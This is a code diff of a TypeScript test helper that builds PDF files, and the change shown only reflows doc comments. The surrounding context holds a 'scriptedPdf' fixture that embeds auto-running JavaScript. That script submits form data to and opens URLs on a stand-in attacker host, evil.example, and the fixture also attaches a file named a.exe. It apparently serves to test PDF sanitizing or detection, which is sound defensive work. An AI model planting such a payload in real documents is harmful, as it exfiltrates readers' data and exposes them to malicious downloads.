@@ -1,6 +1,8 @@
 import { crc32, deflateSync } from 'node:zlib';
 
-/** A PDF of these pages' texts. `extra` are further objects, and `catalog` what the catalog says. */
+/**
+ * A PDF of these pages' texts. `extra` are further objects, and `catalog` what the catalog says.
+ */
 export function pdfOf(
   texts: readonly string[],
   { catalog = '', page = '', extra = [] as readonly string[] } = {},
@@ -36,7 +38,10 @@ export function pdfOf(
 const script =
   "app.alert('hostile'); this.submitForm('http://evil.example/sent'); app.launchURL('http://evil.example/opened');";
 
-/** Runs script when it opens, when its page opens and when a link is clicked, opens addresses, and holds a file. */
+/**
+ * Runs script when it opens, when its page opens and when a link is clicked, opens addresses, and
+ * holds a file.
+ */
 export const scriptedPdf = (): Buffer =>
   pdfOf(['Harmless text'], {
     catalog: `/OpenAction << /S /JavaScript /JS (${script.replaceAll(/[()]/g, String.raw`\$&`)}) >> /AA << /WC << /S /URI /URI (http://evil.example/closed) >> >> /Names << /EmbeddedFiles << /Names [(a.exe) EXTRA 0 R] >> >>`,
